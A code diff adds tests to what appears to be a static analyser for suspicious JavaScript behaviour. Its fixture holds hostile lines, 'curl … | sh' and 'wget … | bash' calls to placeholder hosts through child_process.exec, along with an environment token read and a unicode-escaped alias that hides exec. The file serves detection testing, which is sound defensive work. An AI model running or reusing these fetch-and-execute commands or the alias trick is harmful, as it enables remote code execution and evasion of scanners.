@@ -347,3 +347,32 @@ def test_node_inline_scripts() -> None:
     assert node_inline_scripts("node -e \"require('x')\"") == ["require('x')"]
     assert node_inline_scripts("node --eval='1+1' && node index.js") == ["1+1"]
     assert node_inline_scripts("node index.js") == []
+
+
+# --- fast paths: an ASCII file's text sliced from one decoded string, call arguments without comments
+_FAST_PATH_SOURCE = """const cp = require('child_process');
+const \\u0065x = cp.exec;
+cp.exec(/* a ( comment */ 'curl http://x.example/i | sh', // another
+        () => { process.env.TOKEN; });
+ex('wget http://y.example/p | bash');
+run(url /* "/" in a string too */, '/tmp/x');
+"""
+
+
+def _fingerprint(analysis: FileAnalysis) -> list[tuple[object, ...]]:
+    return ([("event", e.behaviour, e.line, e.column, e.scope, e.snippet) for e in analysis.events]
+            + [("call", c.line, c.column, c.scope, c.callee, c.kind) for c in analysis.calls]
+            + [("binding", b.line, b.scope, b.name, b.module, b.attribute) for b in analysis.bindings])
+
+
+def test_non_ascii_file_reads_like_the_ascii_one() -> None:
+    """A non-ASCII file takes the decode-per-node path, an ASCII one the sliced text: same answers."""
+    ascii_file = analyse(_FAST_PATH_SOURCE)
+    non_ascii = analyse(_FAST_PATH_SOURCE + "// caf\u00e9\n")
+    assert _fingerprint(ascii_file) == _fingerprint(non_ascii)
+    found = {e.behaviour for e in ascii_file.events}
+    assert {"run_command", "read_env"} <= found
+    # The comment is not an argument: the arrow function is the second one, an inline call site.
+    assert any(c.kind is CallKind.INLINE and c.line == 4 for c in ascii_file.calls)
+    # `\u0065x` is `ex`: the escaped alias still resolves to child_process.exec.
+    assert [e.line for e in ascii_file.events if e.behaviour == "run_command"] == [3, 5]
